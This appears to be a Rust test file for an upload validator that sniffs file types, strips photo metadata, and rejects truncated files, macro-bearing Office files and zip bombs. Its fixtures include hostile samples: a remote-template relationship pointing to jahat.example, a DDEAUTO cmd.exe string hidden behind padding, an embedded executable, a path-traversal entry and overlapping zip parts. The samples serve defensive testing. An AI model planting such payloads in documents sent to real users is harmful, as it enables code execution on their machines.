use super::{Rupa, SalahBerkas as S, Tipe, UKURAN_MAKS, periksa};
use img_parts::{
    png::PngChunk,
    riff::{RiffChunk, RiffContent},
};
use std::io::{Cursor, Write};
use zip::{ZipWriter, write::SimpleFileOptions};

fn pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n".to_vec()
}

fn seg(penanda: u8, isi: &[u8]) -> Vec<u8> {
    let n = u16::try_from(isi.len() + 2).unwrap().to_be_bytes();
    [&[0xFF, penanda, n[0], n[1]], isi].concat()
}

/// Orientation 6 (little endian) and a place nobody should learn.
fn exif() -> Vec<u8> {
    let mut t = b"II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x06\0\0\0\0\0\0\0".to_vec();
    t.extend(b"GPS -0.5 117.5");
    t
}

fn jpeg() -> Vec<u8> {
    let app1 = [b"Exif\0\0".as_slice(), &exif()].concat();
    let mut b = vec![0xFF, 0xD8];
    for (p, isi) in [
        (0xE0, b"JFIF\0\x01".as_slice()),
        (0xE1, &app1),
        (0xE1, b"http://ns.adobe.com/xap/1.0/\0rahasia"),
        (0xFE, b"komentar"),
        (0xDB, &[0; 65]),
        (0xC0, &[8, 0, 1, 0, 1, 1, 0, 0, 0]),
        (0xDA, &[1, 0, 0, 0, 63, 0]),
    ] {
        b.extend(seg(p, isi));
    }
    b.extend([0x12, 0xFF, 0x00, 0x34, 0xFF, 0xD0, 0x56, 0xFF, 0xD9]);
    b
}

fn png(isi: &[([u8; 4], &[u8])]) -> Vec<u8> {
    let mut b = b"\x89PNG\r\n\x1a\n".to_vec();
    for (jenis, isi) in isi {
        b.extend(PngChunk::new(*jenis, isi.to_vec().into()).encoder().bytes());
    }
    b
}

fn webp() -> Vec<u8> {
    let anak = |id: &[u8; 4], isi: &[u8]| RiffChunk::new(*id, RiffContent::Data(isi.to_vec().into()));
    let subchunks = vec![
        anak(b"VP8X", &[0x0C, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
        anak(b"VP8L", &[0x2F, 0, 0, 0, 0, 1]),
        anak(b"EXIF", &exif()),
        anak(b"XMP ", b"rahasia!"),
    ];
    RiffChunk::new(*b"RIFF", RiffContent::List { kind: Some(*b"WEBP"), subchunks }).encoder().bytes().to_vec()
}

fn zip(isi: &[(&str, &[u8])]) -> Vec<u8> {
    let mut z = ZipWriter::new(Cursor::new(Vec::new()));
    for (nama, isi) in isi {
        z.start_file(*nama, SimpleFileOptions::default()).unwrap();
        z.write_all(isi).unwrap();
    }
    z.finish().unwrap().into_inner()
}

const JENIS: &[u8] = b"<Types/>";

fn xlsx() -> Vec<u8> {
    zip(&[("[Content_Types].xml", JENIS), ("xl/workbook.xml", b"<workbook/>"), ("xl/worksheets/sheet1.xml", &[b'x'; 5000])])
}

fn memuat(isi: &[u8], cari: &[u8]) -> bool {
    isi.windows(cari.len()).any(|w| w == cari)
}

#[test]
fn each_type_is_known_by_its_bytes() {
    let docx = zip(&[("[Content_Types].xml", JENIS), ("word/document.xml", b"<w/>")]);
    let png = png(&[(*b"IHDR", &[0; 13]), (*b"IDAT", b"x"), (*b"IEND", b"")]);
    for (isi, tipe) in
        [(pdf(), Tipe::Pdf), (jpeg(), Tipe::Jpeg), (png, Tipe::Png), (webp(), Tipe::Webp), (xlsx(), Tipe::Xlsx), (docx, Tipe::Docx)]
    {
        assert_eq!(periksa(isi).map(|b| b.tipe()), Ok(tipe));
    }
}

#[test]
fn empty_too_large_and_unknown_are_refused() {
    assert_eq!(periksa(vec![]), Err(S::Kosong));
    let mut besar = pdf();
    besar.resize(UKURAN_MAKS + 1, b' ');
    assert_eq!(periksa(besar), Err(S::TerlaluBesar));
    // What it really is, whatever it is called.
    for (isi, rupa) in [
        (b"<html><script>".as_slice(), Rupa::HalamanWeb),
        (b"\xEF\xBB\xBF\n<!DOCTYPE html><p>x", Rupa::HalamanWeb),
        (b"MZ\x90\0", Rupa::Program),
        (b"#!/bin/sh\nrm", Rupa::Program),
        (b"GIF89a", Rupa::Gambar),
        (b"<svg/>", Rupa::Gambar),
        (b"<?xml version=\"1.0\"?>\n<svg>", Rupa::Gambar),
        (b"\0\0\0\x18ftypheic\0\0", Rupa::Gambar),
        (b"\0\0\0\x18ftypisom\0\0", Rupa::Video),
        (b"%!PS-Adobe", Rupa::Teks),
        (b"hello %PDF-1.4 %%EOF", Rupa::Teks),
        (b"PK\x05\x06", Rupa::Arsip),
        (b"Rar!\x1a\x07", Rupa::Arsip),
    ] {
        assert_eq!(periksa(isi.to_vec()), Err(S::Lain(rupa)), "{isi:?}");
    }
    for isi in [b"\0".as_slice(), b"\xFF\xFE\xFD", b"  \n"] {
        assert_eq!(periksa(isi.to_vec()), Err(S::TipeTakDiterima), "{isi:?}");
    }
    let ole = [&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], [0; 600].as_slice()].concat();
    assert_eq!(periksa(ole), Err(S::KantorLama));
}

/// Cut anywhere, no type passes.
#[test]
fn cut_off_files_are_refused() {
    let png = png(&[(*b"IHDR", &[0; 13]), (*b"IDAT", b"xyz"), (*b"IEND", b"")]);
    for utuh in [pdf(), jpeg(), png, webp(), xlsx()] {
        for n in 12..utuh.len() - 6 {
            let hasil = periksa(utuh[..n].to_vec());
            assert!(matches!(hasil, Err(S::Terpotong | S::Rusak)), "{n} of {}: {hasil:?}", utuh.len());
        }
    }
}

#[test]
fn a_photo_loses_its_place_but_not_its_orientation() {
    let foto = [jpeg(), jpeg()].concat();
    let bersih = periksa(foto).unwrap().isi().to_vec();
    for rahasia in [b"GPS".as_slice(), b"rahasia", b"komentar"] {
        assert!(!memuat(&bersih, rahasia));
    }
    assert!(memuat(&bersih, b"JFIF\0") && memuat(&bersih, &[0x12, 0xFF, 0x00, 0x34, 0xFF, 0xD0, 0x56, 0xFF, 0xD9]));
    assert!(memuat(&bersih, b"Exif\0\0MM\0*") && memuat(&bersih, &[0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6]));
    assert_eq!(periksa(bersih.clone()).unwrap().isi(), bersih, "cleaning twice is cleaning once");
}

#[test]
fn png_and_webp_lose_text_and_exif() {
    let kotor = png(&[(*b"IHDR", &[0; 13]), (*b"tEXt", b"Author\0rahasia"), (*b"eXIf", &exif()), (*b"IDAT", b"x"), (*b"IEND", b"")]);
    let kotor = [kotor, b"rahasia di ekor".to_vec()].concat();
    for kotor in [kotor, webp()] {
        let bersih = periksa(kotor).unwrap().isi().to_vec();
        assert!(!memuat(&bersih, b"rahasia") && !memuat(&bersih, b"GPS") && memuat(&bersih, b"MM\0*"));
        assert_eq!(periksa(bersih.clone()).unwrap().isi(), bersih);
    }
}

#[test]
fn a_picture_that_would_fill_a_browser_is_refused() {
    let kepala = |lebar: u32, tinggi: u32| [&lebar.to_be_bytes()[..], &tinggi.to_be_bytes(), &[8, 2, 0, 0, 0]].concat();
    let gambar = |lebar, tinggi, data: &[u8]| periksa(png(&[(*b"IHDR", &kepala(lebar, tinggi)), (*b"IDAT", data), (*b"IEND", b"")]));
    assert_eq!(gambar(30_000, 30_000, &vec![0; 100_000]).unwrap_err(), S::TerlaluLuas);
    assert_eq!(gambar(4_000, 3_000, b"x").unwrap_err(), S::Terpotong, "so many pixels do not stand in a byte");
    assert!(gambar(4_000, 3_000, &vec![0; 40_000]).is_ok());
    let mut foto = jpeg();
    let di = foto.windows(5).position(|w| w == [0xFF, 0xC0, 0, 11, 8]).unwrap() + 5;
    foto[di..di + 4].copy_from_slice(&[0x7F, 0xFF, 0x7F, 0xFF]);
    assert_eq!(periksa(foto).unwrap_err(), S::TerlaluLuas);
}

#[test]
fn a_damaged_picture_is_refused() {
    let mut rusak = png(&[(*b"IHDR", &[0; 13]), (*b"IDAT", b"xyz"), (*b"IEND", b"")]);
    rusak[20] ^= 1;
    assert_eq!(periksa(rusak), Err(S::Rusak), "checksum of a chunk");
    let mut tanpa_gambar = vec![0xFF, 0xD8];
    tanpa_gambar.extend([0xFF, 0xD9]);
    assert_eq!(periksa(tanpa_gambar), Err(S::Rusak));
}

#[test]
fn office_packages_are_real_and_passive() {
    let dasar = [("[Content_Types].xml", JENIS), ("xl/workbook.xml", b"<workbook/>".as_slice())];
    let tambah = |nama, isi| zip(&[dasar[0], dasar[1], (nama, isi)]);
    assert_eq!(periksa(zip(&[("a.txt", b"x")])), Err(S::Lain(Rupa::Arsip)), "any zip");
    assert_eq!(periksa(zip(&[dasar[1]])), Err(S::Lain(Rupa::Arsip)), "no content types");
    assert_eq!(periksa(zip(&[dasar[0], ("ppt/presentation.xml", b"x")])), Err(S::Lain(Rupa::Presentasi)));
    assert_eq!(periksa(tambah("xl/vbaProject.bin", b"x")), Err(S::Makro));
    assert_eq!(periksa(tambah("xl/activeX/activeX1.bin", b"x")), Err(S::Makro));
    assert_eq!(periksa(tambah("../../x", b"x")), Err(S::Rusak));
    let jenis: &[u8] = b"<Override ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>";
    assert_eq!(periksa(zip(&[("[Content_Types].xml", jenis), dasar[1]])), Err(S::Makro));
}

#[test]
fn what_an_office_file_fetches_or_packs_is_looked_into() {
    let docx = |nama: &str, isi: &[u8]| zip(&[("[Content_Types].xml", JENIS), ("word/document.xml", b"<w:document/>"), (nama, isi)]);
    let rels = |tipe: &str, mode: &str| {
        format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"http://x/{tipe}\" Target=\"https://jahat.example/t.dotm\" TargetMode{mode}/>"
        )
    };
    let ole = |nama: &str| {
        let nama: Vec<u8> = nama.encode_utf16().flat_map(u16::to_le_bytes).collect();
        [&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], [0; 600].as_slice(), &nama].concat()
    };
    let utf16: Vec<u8> = rels("attachedTemplate", "=\"External\"").encode_utf16().flat_map(u16::to_le_bytes).collect();
    let bermakro = zip(&[("[Content_Types].xml", JENIS), ("xl/workbook.xml", b"x"), ("xl/vbaProject.bin", b"x")]);
    let dalam = |isi: &[u8]| docx("word/embeddings/a.docx", isi);
    let tiga = dalam(&dalam(&dalam(&xlsx())));
    let jahat: [(&str, Vec<u8>); 12] = [
        ("word/_rels/settings.xml.rels", rels("attachedTemplate", "=\"External\"").into_bytes()),
        ("word/_rels/settings.xml.rels", rels("attachedTemplate", " = 'External'").into_bytes()),
        ("word/_rels/settings.xml.rels", rels("attachedTemplate", "=\"&#69;xternal\"").into_bytes()),
        ("word/_rels/settings.xml.rels", utf16),
        ("word/_rels/document.xml.rels", rels("oleObject", "=\"External\"").into_bytes()),
        ("word/embeddings/oleObject1.bin", ole("Ole10Native")),
        ("word/embeddings/oleObject1.bin", ole("_VBA_PROJECT")),
        ("word/embeddings/x.bin", b"MZ\x90".to_vec()),
        ("word/embeddings/Lembar.xlsm", bermakro.clone()),
        ("word/embeddings/Lembar.docx", dalam(&bermakro)),
        ("word/header1.xml", [vec![b' '; 70_000], b"DDEAUTO c:\\cmd.exe".to_vec()].concat()),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService=\"cmd\"/>".to_vec()),
    ];
    for (nama, isi) in jahat {
        assert_eq!(periksa(docx(nama, &isi)), Err(S::Makro), "{nama}");
    }
    assert_eq!(periksa(tiga), Err(S::TerlaluMengembang), "documents in documents without end");
    let baik: [(&str, Vec<u8>); 4] = [
        ("word/_rels/document.xml.rels", rels("hyperlink", "=\"External\"").into_bytes()),
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx()),
        ("word/embeddings/oleObject1.bin", ole("Equation Native")),
        ("word/printerSettings1.bin", b"\0\0printer".to_vec()),
    ];
    for (nama, isi) in baik {
        assert_eq!(periksa(docx(nama, &isi)).map(|b| b.tipe()), Ok(Tipe::Docx), "{nama}");
    }
}

#[test]
fn a_bomb_is_refused_by_what_comes_out() {
    let nol = vec![0; 300 * 1024 * 1024];
    let bom = zip(&[("[Content_Types].xml", JENIS), ("xl/workbook.xml", b"x"), ("xl/x.xml", &nol)]);
    assert!(bom.len() < 1024 * 1024);
    assert_eq!(periksa(bom), Err(S::TerlaluMengembang));
}

/// The entry `b` of a package says that it is the bytes of `a`.
fn bertumpuk(mut z: Vec<u8>, a: &str, b: &str) -> Vec<u8> {
    let di = |nama: &str| z.windows(nama.len()).rposition(|w| w == nama.as_bytes()).unwrap() - 46;
    let (a, b) = (di(a), di(b));
    for bagian in [10..28, 42..46] {
        z.copy_within(a + bagian.start..a + bagian.end, b + bagian.start);
    }
    z
}

#[test]
fn parts_that_lie_on_one_another_are_refused() {
    let mut n = 1_u32;
    let acak = std::iter::repeat_with(|| {
        n = n.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        n.to_be_bytes()[0]
    });
    let acak: Vec<u8> = acak.take(20_000).collect();
    let biasa = zip(&[("[Content_Types].xml", JENIS), ("xl/workbook.xml", b"<workbook/>"), ("xl/a.xml", &acak), ("xl/b.xml", b"kecil")]);
    assert_eq!(periksa(biasa.clone()).map(|b| b.tipe()), Ok(Tipe::Xlsx));
    assert_eq!(periksa(bertumpuk(biasa, "xl/a.xml", "xl/b.xml")), Err(S::TerlaluMengembang));
}

#[test]
fn a_package_with_a_wrong_byte_is_refused() {
    let mut z = xlsx();
    // Inside the first part's data: its header is 30 bytes and its name 19.
    z[52] ^= 0x55;
    assert!(matches!(periksa(z), Err(S::Rusak | S::Terpotong)));
}
